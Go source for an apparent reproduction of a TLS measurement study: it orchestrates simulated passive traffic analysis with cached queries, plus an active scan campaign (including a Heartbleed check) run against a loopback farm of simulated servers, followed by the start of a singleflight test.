//     Figures 1–10, Tables 1–6 and the §4/§5/§6 scalar findings;
//   - ScanCampaign: the active Censys-style measurement over a real-TCP
//     server farm, yielding the §5.1–§5.6 server-side scalars.
//
// Both are deterministic for a given seed.
package core

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/clientdb"
	"tlsage/internal/fingerprint"
	"tlsage/internal/handshake"
	"tlsage/internal/notary"
	"tlsage/internal/population"
	"tlsage/internal/registry"
	"tlsage/internal/scanner"
	"tlsage/internal/serverfarm"
	"tlsage/internal/simulate"
	"tlsage/internal/timeline"
	"tlsage/internal/wire"
)

// ErrNotRun reports a study that has no aggregate yet: neither Run nor a
// live constructor (NewLiveStudy, NewStudyFromAggregate) has given it data.
// The service layer matches it with errors.Is to map "not ready" to 503
// instead of 400.
var ErrNotRun = errors.New("core: study has not been run")

// Study orchestrates the passive measurement.
type Study struct {
	Options simulate.Options

	// mu guards agg and db against live ingestion: IngestSink and
	// MergeShard take it exclusively per delivery, readers (Frame, Counts)
	// share it. Batch callers that mutate the aggregate directly through
	// Aggregate() stay single-goroutine and never contend.
	mu  sync.RWMutex
	agg *notary.Aggregate
	db  *fingerprint.DB
	// frameMu guards the frame cache below; it is separate from mu so
	// concurrent readers can settle who rebuilds without writing under a
	// shared read lock.
	frameMu sync.Mutex
	// frame caches the columnar snapshot of agg that all figure/scalar
	// queries evaluate against. It is rebuilt lazily whenever the
	// aggregate's generation moves (Run, LoadLog, live ingestion, or any
	// Add/Merge through the Aggregate() accessor).
	frame *analysis.Frame

	// queryCache, when set, fronts Query/QueryExpr with a shared
	// generation-keyed result cache; cacheID namespaces this study's keys
	// within it. cacheEpoch versions aggregate replacements (Run, LoadLog):
	// generations count records, so a rebuilt study can land on a colliding
	// generation, and the epoch — bumped under mu in the same critical
	// section as the swap — keeps its cache keys disjoint from the old
	// aggregate's. Guarded by mu like the aggregate it versions.
	queryCache *analysis.QueryCache
	cacheID    string
	cacheEpoch uint64

	// flightMu/flights singleflight concurrent misses for the same cache
	// key: the first caller computes, later arrivals wait on done and share
	// the published result, so a thundering dashboard compiles each query
	// once per generation instead of once per client. Only cache-backed
	// queries fly — without a cache there is no canonical key to rendezvous
	// on.
	flightMu sync.Mutex
	flights  map[flightKey]*queryFlight
	// compiles counts actual compile+evaluate computations (cache hits and
	// flight followers excluded); tests pin singleflight against it.
	compiles atomic.Uint64
	// testComputeHook, when non-nil (set by tests before any queries), runs
	// at the start of every leader computation.
	testComputeHook func()

	// planMu guards the compiled-plan memo: plans keyed by (cache epoch,
	// frame fingerprint, canonical query text), so a repeated ad-hoc query
	// that misses the result cache — evicted entry, or no result cache at
	// all — pays only evaluation while the frame is unchanged. A moving
	// study changes the fingerprint with every merge, which makes stale
	// plans (bound to the old frame's column slices) unreachable without an
	// invalidation hook; the epoch keeps keys disjoint across Run/LoadLog
	// swaps, whose rebuilt aggregate can collide on (generation, layout)
	// with different contents. Entries age out FIFO past
	// maxPlanMemoEntries.
	planMu    sync.Mutex
	planMemo  map[planKey]*analysis.Plan
	planOrder []planKey
	// planCompiles counts actual analysis.Compile calls (memo misses);
	// the memo tests pin it. compiles above keeps its original meaning —
	// compute runs, hit or miss in the plan memo — so the singleflight
	// accounting is unchanged.
	planCompiles atomic.Uint64
}

// maxPlanMemoEntries bounds the compiled-plan memo. Plans are small (a few
// slices of frame-length ints, usually shared with the frame itself), so
// the bound is about key churn on a moving study, not memory: each merge
// changes the fingerprint and strands the previous generation's entries
// until FIFO eviction reclaims them.
const maxPlanMemoEntries = 256

// planKey addresses one memoized plan.
type planKey struct {
	epoch       uint64
	fingerprint uint64
	query       string
}

// flightKey coordinates one in-flight computation; it mirrors the cache key
// minus the study id (flights are per Study already).
type flightKey struct {
	epoch      uint64
	generation uint64
	query      string
}

// queryFlight is one in-progress query computation. done closes only after
// res/body/gen/err are published, so waiters read them without locks.
type queryFlight struct {
	done    chan struct{}
	waiters atomic.Int32
	res     analysis.QueryResult
	body    []byte
	gen     uint64
	err     error
}

// SetQueryCache attaches a (possibly shared) query result cache, with id
// namespacing this study's entries. A nil cache — the default — disables
// result caching; queries then compile and evaluate on every call.
func (s *Study) SetQueryCache(c *analysis.QueryCache, id string) {
	s.mu.Lock()
	s.queryCache, s.cacheID = c, id
	s.mu.Unlock()
}

// NewStudy creates a study at the given per-month sample size with the
// default seed and full window.
func NewStudy(connsPerMonth int) *Study {
	return &Study{Options: simulate.DefaultOptions(connsPerMonth)}
}

// NewLiveStudy creates an empty study ready for live ingestion: the
// aggregate exists (so Frame and every query answer immediately, over zero
// months) and records arrive through IngestSink or MergeShard instead of
// Run. This is the service-mode constructor — the same aggregate that
// answers queries keeps ingesting. The fingerprint database doubles as the
// aggregate's classifier, so client-class attribution (the agent: query
// family, Table 2) accumulates as records stream in.
func NewLiveStudy() *Study {
	db := fingerprint.BuildDefault()
	agg := notary.NewAggregate()
	agg.SetClassifier(db)
	return &Study{agg: agg, db: db}
}

// NewStudyFromAggregate wraps an already-built aggregate — typically one
// decoded from a durable snapshot — as a live study: queries answer off the
// recovered months immediately and further records arrive through
// IngestSink or MergeShard. This is the restart-recovery constructor. The
// default fingerprint database is (re)installed as the classifier —
// configuration is not serialized with snapshots — so attribution resumes
// for newly ingested records.
func NewStudyFromAggregate(agg *notary.Aggregate) *Study {
	db := fingerprint.BuildDefault()
	agg.SetClassifier(db)
	return &Study{agg: agg, db: db}
}

// NewShard returns a fresh private aggregate configured like the study's own
// (same classifier), for batched ingestion: parse into the shard without
// contention, then fold it in with MergeShard. Shards created any other way
// would silently skip client-class attribution — Merge transfers counters,
// and only counters.
func (s *Study) NewShard() *notary.Aggregate {
	shard := notary.NewAggregate()
	s.mu.RLock()
	if s.agg != nil {
		shard.SetClassifier(s.agg.Classifier())
	}
	s.mu.RUnlock()
	return shard
}

// WriteSnapshot serializes the study's aggregate to w in the versioned
// notary snapshot format, under the shared read lock so a concurrent merge
// never tears the encoding. It returns the generation the snapshot
// captured; because generations count ingested records, the value doubles
// as the record count a recovery must skip when replaying the TSV log tail.
func (s *Study) WriteSnapshot(w io.Writer) (uint64, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if s.agg == nil {
		return 0, fmt.Errorf("core: study has no aggregate (use NewLiveStudy or Run first)")
	}
	if err := notary.WriteSnapshot(w, s.agg); err != nil {
		return 0, err
	}
	return s.agg.Generation(), nil
}

// Run executes the simulation and aggregation. When logWriter is non-nil
// every connection record is additionally streamed to it as a Bro-style TSV
// log. Extra sinks (network forwarders, extra indices, ...) can be teed in
// with RunSinks.
func (s *Study) Run(logWriter io.Writer) error {
	return s.RunSinks(logWriter)
}

// RunSinks is Run with additional record consumers: every simulated record
// is delivered to the study's aggregate, the optional TSV log, and each
// extra sink (in that order) — the attachment point for long-running
// consumers. Every sink is closed on every exit path, including a failed
// simulation, so attached consumers are always flushed and detached; a
// simulation error takes precedence over close errors, and among close
// errors the first wins.
func (s *Study) RunSinks(logWriter io.Writer, extra ...notary.Sink) error {
	sim := simulate.New(s.Options)
	db := fingerprint.BuildDefault()
	agg := notary.NewAggregate()
	agg.SetClassifier(db)
	sinks := make([]notary.Sink, 0, 2+len(extra))
	sinks = append(sinks, agg)
	if logWriter != nil {
		sinks = append(sinks, notary.NewLogWriter(logWriter))
	}
	sinks = append(sinks, extra...)
	tee := notary.Tee(sinks...)
	runErr := sim.Run(tee)
	closeErr := tee.Close() // best effort: closes every sink, first error wins
	if runErr != nil {
		return runErr
	}
	if closeErr != nil {
		return closeErr
	}
	s.mu.Lock()
	s.agg = agg
	s.db = db
	s.cacheEpoch++
	s.mu.Unlock()
	s.invalidateFrame()
	return nil
}

// LoadLog rebuilds a study from a previously written TSV log instead of
// re-simulating — the post-hoc analysis path. The TSV stream is sharded on
// line boundaries across Options.Workers parse workers (0 = all cores) and
// the per-shard aggregates are merged, so loading scales like Run does.
// Parsing runs classified, so the reloaded study carries the same agent:
// attribution a live run would.
func (s *Study) LoadLog(r io.Reader) error {
	db := fingerprint.BuildDefault()
	agg, err := notary.ReadLogParallelClassified(r, s.Options.Workers, db)
	if err != nil {
		return err
	}
	s.mu.Lock()
	s.agg = agg
	s.db = db
	s.cacheEpoch++
	s.mu.Unlock()
	s.invalidateFrame()
	return nil
}

// invalidateFrame drops the cached snapshot so the next Frame call rebuilds.
func (s *Study) invalidateFrame() {
	s.frameMu.Lock()
	s.frame = nil
	s.frameMu.Unlock()
}

// IngestSink returns a concurrency-safe sink feeding the study's live
// aggregate: every Observe takes the study's write lock, so any number of
// producers may deliver concurrently while readers pull Frame snapshots.
// Close is a no-op — the study outlives its producers. The usual Sink
// contract applies: records are only valid for the duration of Observe.
func (s *Study) IngestSink() notary.Sink {
	return ingestSink{s}
}

// ingestSink is the Sink view of a live study.
type ingestSink struct{ s *Study }

func (is ingestSink) Observe(r *notary.Record) error {
	is.s.mu.Lock()
	defer is.s.mu.Unlock()
	if is.s.agg == nil {
		return fmt.Errorf("core: study has no aggregate (use NewLiveStudy or Run first)")
	}
	is.s.agg.Add(r)
	return nil
}

func (is ingestSink) Close() error { return nil }

// MergeShard folds a privately accumulated aggregate into the live study in
// one locked operation — the batched ingestion path: a network stream parses
// into its own shard (no contention) and merges every few thousand records,
// reusing Aggregate.Merge. The shard is not modified and may be reused.
func (s *Study) MergeShard(shard *notary.Aggregate) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.agg == nil {
		return fmt.Errorf("core: study has no aggregate (use NewLiveStudy or Run first)")
	}
	s.agg.Merge(shard)
	return nil
}

// Counts reports the live aggregate's record count, observed month count and
// generation in one consistent read — the health-endpoint view. The
// generation is monotonic under IngestSink/MergeShard ingestion.
func (s *Study) Counts() (records, months int, generation uint64, err error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if s.agg == nil {
		return 0, 0, 0, ErrNotRun
	}
	return s.agg.TotalRecords(), s.agg.NumMonths(), s.agg.Generation(), nil
}

// Aggregate exposes the raw monthly statistics; nil before Run. Direct
// mutation through this accessor is a batch-mode convenience — concurrent
// producers must deliver through IngestSink or MergeShard instead.
func (s *Study) Aggregate() *notary.Aggregate { return s.agg }

// FingerprintDB exposes the §4 fingerprint database; nil before Run.
func (s *Study) FingerprintDB() *fingerprint.DB { return s.db }

// Frame returns the columnar snapshot of the study's aggregate, building it
// on first use and rebuilding it whenever the aggregate has mutated since
// the cached snapshot (generation check). Callers may hold the returned
// frame across further ingestion: it is immutable, and a later Frame call
// yields a fresh snapshot.
//
// Frame is safe for concurrent readers, including while producers deliver
// through IngestSink or MergeShard: the aggregate is read under the shared
// lock (excluding writers for the duration of a rebuild) and the cache slot
// has its own mutex, so every reader gets a self-consistent snapshot and
// ingestion never observes a torn frame.
func (s *Study) Frame() (*analysis.Frame, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.frameLocked()
}

// frameLocked is Frame's body; callers hold s.mu (read or write).
func (s *Study) frameLocked() (*analysis.Frame, error) {
	if s.agg == nil {
		return nil, ErrNotRun
	}
	s.frameMu.Lock()
	defer s.frameMu.Unlock()
	if s.frame == nil || s.frame.Generation() != s.agg.Generation() {
		s.frame = analysis.NewFrame(s.agg)
	}
	return s.frame, nil
}

// Figures builds all ten passive figures from the cached frame.
func (s *Study) Figures() ([]analysis.Figure, error) {
	f, err := s.Frame()
	if err != nil {
		return nil, err
	}
	return f.Figures(), nil
}

// Figure builds figure n (1–10).
func (s *Study) Figure(n int) (analysis.Figure, error) {
	f, err := s.Frame()
	if err != nil {
		return analysis.Figure{}, err
	}
	fig, ok := f.FigureByNum(n)
	if !ok {
		return analysis.Figure{}, fmt.Errorf("core: no figure %d", n)
	}
	return fig, nil
}

// FigureByName builds the catalog figure with the given name (see
// analysis.Catalog; e.g. "fingerprint-classes" or "extensions"). Names
// match case-insensitively; a miss lists the valid catalog names.
func (s *Study) FigureByName(name string) (analysis.Figure, error) {
	f, err := s.Frame()
	if err != nil {
		return analysis.Figure{}, err
	}
	fig, ok := f.FigureByName(name)
	if !ok {
		return analysis.Figure{}, fmt.Errorf("core: no figure named %q (valid names: %s)",
			name, strings.Join(analysis.CatalogNames(), ", "))
	}
	return fig, nil
}

// Query parses src with analysis.ParseQuery and evaluates it against the
// study's cached frame — the ad-hoc metric path beyond the figure catalog.
func (s *Study) Query(src string) (analysis.QueryResult, error) {
	res, _, _, err := s.QueryInfo(src)
	return res, err
}

// QueryInfo is Query plus the aggregate generation the result belongs to
// and whether it was served from the attached result cache — the service
// layer stamps both onto response headers.
func (s *Study) QueryInfo(src string) (analysis.QueryResult, uint64, bool, error) {
	res, _, gen, hit, err := s.QueryInfoJSON(src)
	return res, gen, hit, err
}

// QueryInfoJSON is QueryInfo plus the serialized JSON response body when the
// attached result cache holds one (nil otherwise) — the service writes it to
// the wire directly, so a hit skips json.Marshal as well as evaluation.
func (s *Study) QueryInfoJSON(src string) (analysis.QueryResult, []byte, uint64, bool, error) {
	e, err := analysis.ParseQuery(src)
	if err != nil {
		return analysis.QueryResult{}, nil, 0, false, err
	}
	return s.queryValidated(e)
}

// QueryExpr evaluates an already-built expression (e.g. decoded from JSON)
// against the study's cached frame.
func (s *Study) QueryExpr(e *analysis.Expr) (analysis.QueryResult, error) {
	res, _, _, err := s.QueryExprInfo(e)
	return res, err
}

// QueryExprInfo is QueryExpr with the generation/cache-hit metadata of
// QueryInfo. The expression is validated before anything else: the cache is
// keyed by canonical text, and only a validated expression's String() is
// guaranteed to be canonical (a malformed column name could otherwise
// impersonate another query's key).
func (s *Study) QueryExprInfo(e *analysis.Expr) (analysis.QueryResult, uint64, bool, error) {
	res, _, gen, hit, err := s.QueryExprInfoJSON(e)
	return res, gen, hit, err
}

// QueryExprInfoJSON is QueryExprInfo plus the cached serialized JSON body
// (see QueryInfoJSON).
func (s *Study) QueryExprInfoJSON(e *analysis.Expr) (analysis.QueryResult, []byte, uint64, bool, error) {
	if err := e.Validate(); err != nil {
		return analysis.QueryResult{}, nil, 0, false, err
	}
	return s.queryValidated(e)
}

// cacheCoords snapshots the cache handle and the study's current
// (epoch, generation) coordinates in one shared lock acquisition — the hit
// path's only shared-state read; it never builds or touches a Frame.
func (s *Study) cacheCoords() (cache *analysis.QueryCache, id string, epoch, generation uint64, err error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if s.agg == nil {
		return nil, "", 0, 0, ErrNotRun
	}
	return s.queryCache, s.cacheID, s.cacheEpoch, s.agg.Generation(), nil
}

// frameWithEpoch returns the current frame together with the cache epoch it
// belongs to, read under one shared lock acquisition so an aggregate swap
// can never pair a frame with the wrong epoch.
func (s *Study) frameWithEpoch() (*analysis.Frame, uint64, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	f, err := s.frameLocked()
	if err != nil {
		return nil, 0, err
	}
	return f, s.cacheEpoch, nil
}

// queryValidated serves a validated expression: from the result cache when
// an entry exists for the study's current (epoch, generation) — without
// touching the frame — and otherwise by compiling a plan against the
// current frame, evaluating it, and caching the result (with its serialized
// body) under coordinates read atomically with that frame. Concurrent
// misses for the same key join one in-flight computation instead of each
// compiling. A nil cache degrades to plain compile-and-evaluate.
func (s *Study) queryValidated(e *analysis.Expr) (analysis.QueryResult, []byte, uint64, bool, error) {
	cache, id, epoch, gen, err := s.cacheCoords()
	if err != nil {
		return analysis.QueryResult{}, nil, 0, false, err
	}
	if cache == nil {
		res, body, gen, err := s.computeQuery(e, nil, "", "")
		return res, body, gen, false, err
	}
	key := e.String()
	if res, body, hit := cache.Get(id, epoch, gen, key); hit {
		return res, body, gen, true, nil
	}
	fk := flightKey{epoch, gen, key}
	s.flightMu.Lock()
	if f, ok := s.flights[fk]; ok {
		f.waiters.Add(1)
		s.flightMu.Unlock()
		<-f.done
		// A follower's answer came from shared work, so it reports as a
		// cache hit: the query was compiled once for the whole flight.
		return f.res, f.body, f.gen, f.err == nil, f.err
	}
	f := &queryFlight{done: make(chan struct{})}
	if s.flights == nil {
		s.flights = make(map[flightKey]*queryFlight)
	}
	s.flights[fk] = f
	s.flightMu.Unlock()
	f.res, f.body, f.gen, f.err = s.computeQuery(e, cache, id, key)
	// Unregister before waking waiters, so a failed flight cannot capture
	// callers that arrive after its error is already decided.
	s.flightMu.Lock()
	delete(s.flights, fk)
	s.flightMu.Unlock()
	close(f.done)
	return f.res, f.body, f.gen, false, f.err
}

// computeQuery compiles and evaluates e against the current frame. With a
// cache attached it also serializes the response body and stores both under
// the frame's coordinates.
func (s *Study) computeQuery(e *analysis.Expr, cache *analysis.QueryCache, id, key string) (analysis.QueryResult, []byte, uint64, error) {
	if hook := s.testComputeHook; hook != nil {
		hook()
	}
	f, epoch, err := s.frameWithEpoch()
	if err != nil {
		return analysis.QueryResult{}, nil, 0, err
	}
	if key == "" {
		key = e.String() // cache-less path: canonicalize for the plan memo
	}
	p, err := s.compiledPlan(e, f, epoch, key)
	if err != nil {
		return analysis.QueryResult{}, nil, 0, err
	}
	s.compiles.Add(1)
	res := p.Eval()
	var body []byte
	if cache != nil {
		// A marshal failure only costs this entry the serialized-body fast
		// path; the result itself still caches and serves.
		body, _ = res.EncodeJSONBody()
		cache.Put(id, epoch, f.Generation(), key, res, body)
	}
	return res, body, f.Generation(), nil
}

// compiledPlan returns a plan for e bound to f, from the memo when a valid
// entry exists and by compiling (and memoizing) otherwise. The double
// ValidFor check is belt and braces: the key's fingerprint already implies
// validity, but a fingerprint collision across epochs is excluded by the
// epoch and within an epoch by the monotone generation, so the check only
// guards the invariant cheaply.
func (s *Study) compiledPlan(e *analysis.Expr, f *analysis.Frame, epoch uint64, key string) (*analysis.Plan, error) {
	pk := planKey{epoch: epoch, fingerprint: f.Fingerprint(), query: key}
	s.planMu.Lock()
	if p, ok := s.planMemo[pk]; ok && p.ValidFor(f) {
		s.planMu.Unlock()
		return p, nil
	}
	s.planMu.Unlock()
	// Compile outside the lock: plans are immutable and a racing duplicate
	// compile of the same key is only wasted work, never wrong.
	p, err := analysis.Compile(e, f)
	if err != nil {
		return nil, err
	}
	s.planCompiles.Add(1)
	s.planMu.Lock()
	if _, dup := s.planMemo[pk]; !dup {
		if s.planMemo == nil {
			s.planMemo = make(map[planKey]*analysis.Plan)
		}
		for len(s.planOrder) >= maxPlanMemoEntries {
			delete(s.planMemo, s.planOrder[0])
			s.planOrder = s.planOrder[1:]
		}
		s.planMemo[pk] = p
		s.planOrder = append(s.planOrder, pk)
	}
	s.planMu.Unlock()
	return p, nil
}

// PlanCompiles reports how many times a query actually compiled (plan-memo
// misses) — the observability hook the memo tests and benchmarks pin.
func (s *Study) PlanCompiles() uint64 { return s.planCompiles.Load() }

// Scalars returns the passive and fingerprint scalar findings. Both halves
// are computed under one shared lock acquisition, so a live report never
// mixes two generations.
func (s *Study) Scalars() ([]analysis.Scalar, error) {
	out, _, err := s.ScalarsWithGeneration()
	return out, err
}

// ScalarsWithGeneration is Scalars plus the aggregate generation the report
// was computed against, read atomically with the report itself — the
// service uses it to stamp staleness headers that match the body exactly.
func (s *Study) ScalarsWithGeneration() ([]analysis.Scalar, uint64, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	f, err := s.frameLocked()
	if err != nil {
		return nil, 0, err
	}
	out := analysis.PassiveScalarsFrame(f)
	return append(out, analysis.FingerprintScalars(s.agg)...), f.Generation(), nil
}

// Impacts returns the §7.4 attack-impact rows.
func (s *Study) Impacts() ([]analysis.AttackImpact, error) {
	f, err := s.Frame()
	if err != nil {
		return nil, err
	}
	return analysis.AttackImpactsFrame(f), nil
}

// Table2 reproduces the fingerprint summary table through the query surface:
// every coverage number is an agent:-family expression evaluated against the
// study's cached frame (analysis.BuildTable2Frame), byte-identical to the
// legacy aggregate walk because the study's classifier is its own fingerprint
// database. An aggregate recovered from a pre-attribution (v1) snapshot has
// empty attribution counters; its Table 2 reports zero coverage until records
// are re-ingested or new ones arrive.
func (s *Study) Table2() (analysis.Table2Report, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	f, err := s.frameLocked()
	if err != nil {
		return analysis.Table2Report{}, err
	}
	return analysis.BuildTable2Frame(f, s.db), nil
}

// ExtensionFigure builds the §9 extension-uptake figure (Figure E1).
func (s *Study) ExtensionFigure() (analysis.Figure, error) {
	return s.FigureByName("extensions")
}

// TLS13Variants returns the advertised TLS 1.3 variant split (§6.4).
func (s *Study) TLS13Variants() ([]analysis.TLS13VariantShare, error) {
	f, err := s.Frame()
	if err != nil {
		return nil, err
	}
	return analysis.TLS13VariantSharesFrame(f), nil
}

// FingerprintDurations returns the §4.1 lifetime statistics.
func (s *Study) FingerprintDurations() (fingerprint.DurationStats, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if s.agg == nil {
		return fingerprint.DurationStats{}, ErrNotRun
	}
	return fingerprint.ComputeDurationStats(s.agg.FPDurations()), nil
}

// Static table reproductions (no simulation needed).

// Table1 returns the version release dates.
func Table1() []struct {
	Version registry.Version
	Name    string
	Date    registry.ReleaseDate
} {
	return registry.VersionReleases()
}

// Table3 returns the browser CBC-count change rows.
func Table3() []clientdb.TableRow { return clientdb.Table3CBC() }

// Table4 returns the browser RC4 change rows.
func Table4() []clientdb.TableRow { return clientdb.Table4RC4() }

// Table5 returns the browser 3DES change rows.
func Table5() []clientdb.TableRow { return clientdb.Table53DES() }

// Table6 returns the browser version-support rows.
func Table6() []clientdb.VersionSupportRow { return clientdb.Table6Versions() }

// ScanCampaign orchestrates an active Censys-style sweep: it samples a farm
// of server configurations from the host-census universe at a given date,
// binds them to loopback TCP listeners and runs every probe against them.
type ScanCampaign struct {
	// Date selects the population snapshot (e.g. Sep 2015 vs May 2018).
	Date timeline.Date
	// Hosts is the farm size.
	Hosts int
	// Workers is the scanner pool width.
	Workers int
	// Seed drives the population sampling.
	Seed int64
	// Timeout bounds each probe connection.
	Timeout time.Duration
	// PopularityWeighted samples the farm from the traffic universe instead
	// of the host census — the Alexa-Top-1M flavour of the Censys scans
	// (§3.2): popular sites are more modern than the average IPv4 host.
	PopularityWeighted bool
}

// CampaignReport aggregates one campaign.
type CampaignReport struct {
	Date   timeline.Date
	Hosts  int
	Probes map[string]scanner.Summary
	// VulnerableHosts counts hosts the Heartbleed exploit check actually
	// over-read: the scanner negotiates heartbeat and sends a request whose
	// claimed length exceeds its payload, exactly as the §5.4 scans did.
	VulnerableHosts int
	// GroundTruthVulnerable counts farm hosts configured as unpatched; the
	// exploit check must agree with it (cross-validated in tests).
	GroundTruthVulnerable int
	// LeakedBytes totals the memory over-read across vulnerable hosts.
	LeakedBytes int
}

// Frac is a convenience percentage over farm hosts.
func (r *CampaignReport) Frac(n int) float64 {
	if r.Hosts == 0 {
		return 0
	}
	return 100 * float64(n) / float64(r.Hosts)
}

// SSL3SupportPct returns the §5.1 metric: hosts answering the SSL3-only probe.
func (r *CampaignReport) SSL3SupportPct() float64 {
	return r.Frac(r.Probes["ssl3only"].Answered)
}

// RC4ChosenPct returns the §5.3 metric: hosts choosing RC4 against the
// Chrome-2015 list.
func (r *CampaignReport) RC4ChosenPct() float64 {
	return r.Frac(r.Probes["chrome2015"].ChoseRC4)
}

// CBCChosenPct returns the §5.2 metric.
func (r *CampaignReport) CBCChosenPct() float64 {
	return r.Frac(r.Probes["chrome2015"].CBCTotal())
}

// TDESChosenPct returns the §5.6 metric.
func (r *CampaignReport) TDESChosenPct() float64 {
	return r.Frac(r.Probes["chrome2015"].Chose3DES)
}

// HeartbeatSupportPct returns the §5.4 extension-support metric.
func (r *CampaignReport) HeartbeatSupportPct() float64 {
	return r.Frac(r.Probes["chrome2015"].HeartbeatAck)
}

// ExportSupportPct returns the §5.5 metric: hosts answering the export-only
// probe with an export suite.
func (r *CampaignReport) ExportSupportPct() float64 {
	return r.Frac(r.Probes["exportonly"].ChoseExport)
}

// HeartbleedVulnerablePct returns the §5.4 vulnerability metric, from the
// live exploit check.
func (r *CampaignReport) HeartbleedVulnerablePct() float64 {
	return r.Frac(r.VulnerableHosts)
}

// RC4SupportPct returns the SSL-Pulse-style §5.3 metric: hosts answering an
// RC4-only offer.
func (r *CampaignReport) RC4SupportPct() float64 {
	return r.Frac(r.Probes["rc4only"].Answered)
}

// Run executes the campaign. Defaults for Hosts, Workers and Timeout are
// resolved into locals — the receiver is never written, so one campaign
// value can be reused across dates without its configuration silently
// pinning to the first run's defaults.
func (c *ScanCampaign) Run(ctx context.Context) (*CampaignReport, error) {
	hosts := c.Hosts
	if hosts <= 0 {
		hosts = 200
	}
	workers := c.Workers
	if workers <= 0 {
		workers = 16
	}
	timeout := c.Timeout
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	rnd := rand.New(rand.NewSource(c.Seed))
	servers := population.DefaultServers()
	universe := population.ByHosts
	if c.PopularityWeighted {
		universe = population.ByTraffic
	}

	configs := make([]*handshake.ServerConfig, hosts)
	cohorts := make([]string, hosts)
	groundTruth := 0
	for i := 0; i < hosts; i++ {
		cohort, cfg := servers.Sample(c.Date, universe, rnd)
		configs[i] = cfg
		cohorts[i] = cohort.Name
		if cfg.HeartbleedVulnerable {
			groundTruth++
		}
	}
	farm, err := serverfarm.StartFarm(configs, cohorts, timeout)
	if err != nil {
		return nil, err
	}
	defer farm.Close()

	report := &CampaignReport{
		Date:                  c.Date,
		Hosts:                 hosts,
		Probes:                make(map[string]scanner.Summary),
		GroundTruthVulnerable: groundTruth,
	}
	sc := scanner.New(workers)
	sc.Timeout = timeout
	// Probes are independent against the farm, so they run concurrently on a
	// bounded pool. Hellos are pre-built serially from the shared RNG so the
	// draw sequence — and with it the report — stays deterministic; the
	// summaries land in per-probe slots, so completion order cannot reorder
	// the report either.
	probes := scanner.AllProbes()
	hellos := make([]*wire.ClientHello, len(probes))
	for i, probe := range probes {
		hellos[i] = probe.Build(rnd)
	}
	probeWorkers := runtime.GOMAXPROCS(0)
	if probeWorkers > len(probes) {
		probeWorkers = len(probes)
	}
	summaries := make([]scanner.Summary, len(probes))
	probeErrs := make([]error, len(probes))
	sem := make(chan struct{}, probeWorkers)
	var wg sync.WaitGroup
	for i := range probes {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			results, err := sc.Scan(ctx, farm.Addrs(), hellos[i])
			if err != nil {
				probeErrs[i] = fmt.Errorf("core: probe %s: %w", probes[i].Name, err)
				return
			}
			summaries[i] = scanner.Summarize(results)
		}(i)
	}
	wg.Wait()
	for i, err := range probeErrs {
		if err != nil {
			return nil, err
		}
		report.Probes[probes[i].Name] = summaries[i]
	}

	// The live Heartbleed exploit check (§5.4).
	hb, err := sc.ScanHeartbleed(ctx, farm.Addrs())
	if err != nil {
		return nil, fmt.Errorf("core: heartbleed check: %w", err)
	}
	for _, r := range hb {
		if r.Vulnerable {
			report.VulnerableHosts++
			report.LeakedBytes += r.LeakedBytes
		}
	}
	return report, nil
}

// ScanScalars compares two campaign snapshots against the paper's Censys
// numbers (experiments S1–S4). Rows are emitted in experiment-ID order.
func ScanScalars(sep2015, may2018 *CampaignReport) []analysis.Scalar {
	return []analysis.Scalar{
		{ID: "S1a", Name: "SSL3 server support, Sep 2015", Paper: 45, Measured: sep2015.SSL3SupportPct(), Unit: "%"},
		{ID: "S1b", Name: "SSL3 server support, May 2018", Paper: 25, Measured: may2018.SSL3SupportPct(), Unit: "%"},
		{ID: "S2a", Name: "servers choosing RC4, Sep 2015", Paper: 11.2, Measured: sep2015.RC4ChosenPct(), Unit: "%"},
		{ID: "S2b", Name: "servers choosing RC4, May 2018", Paper: 3.4, Measured: may2018.RC4ChosenPct(), Unit: "%"},
		{ID: "S2c", Name: "servers choosing CBC, Sep 2015", Paper: 54, Measured: sep2015.CBCChosenPct(), Unit: "%"},
		{ID: "S2d", Name: "servers choosing CBC, May 2018", Paper: 35, Measured: may2018.CBCChosenPct(), Unit: "%"},
		{ID: "S2e", Name: "RC4 supported (SSL Pulse), May 2018", Paper: 19.1, Measured: may2018.RC4SupportPct(), Unit: "%"},
		{ID: "S3a", Name: "heartbeat support, May 2018", Paper: 34, Measured: may2018.HeartbeatSupportPct(), Unit: "%"},
		{ID: "S3b", Name: "Heartbleed vulnerable, May 2018", Paper: 0.32, Measured: may2018.HeartbleedVulnerablePct(), Unit: "%"},
		{ID: "S4a", Name: "servers choosing 3DES, Sep 2015", Paper: 0.54, Measured: sep2015.TDESChosenPct(), Unit: "%"},
		{ID: "S4b", Name: "servers choosing 3DES, May 2018", Paper: 0.25, Measured: may2018.TDESChosenPct(), Unit: "%"},
	}
}
