package core

import (
	"sync"
	"testing"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/notary"
	"tlsage/internal/timeline"
)

// flightWaiters counts callers currently parked on in-flight computations —
// test-only visibility into the singleflight rendezvous.
func (s *Study) flightWaiters() int32 {
	s.flightMu.Lock()
	defer s.flightMu.Unlock()
	var n int32
	for _, f := range s.flights {
		n += f.waiters.Load()
	}
	return n
}

func singleflightStudy(t *testing.T) *Study {
	t.Helper()
	s := NewStudy(20)
	s.Options.End = timeline.M(2012, time.June)
	if err := s.Run(nil); err != nil {
		t.Fatal(err)
	}
	s.SetQueryCache(analysis.NewQueryCache(64, 1<<20), "sf")
	return s
}

// TestQuerySingleflight pins the dedup property deterministically: a hook
// gates the leader inside its computation, the test waits until every other
// caller is parked on the flight, then releases — exactly one compilation
// must have served all of them, with followers reporting cache hits.
func TestQuerySingleflight(t *testing.T) {
	s := singleflightStudy(t)
	const query = "pct(version:tls12 / established)"
	const callers = 8

	entered := make(chan struct{}, callers)
	release := make(chan struct{})
	s.testComputeHook = func() {
		entered <- struct{}{}
		<-release
	}
	s.compiles.Store(0)

	type outcome struct {
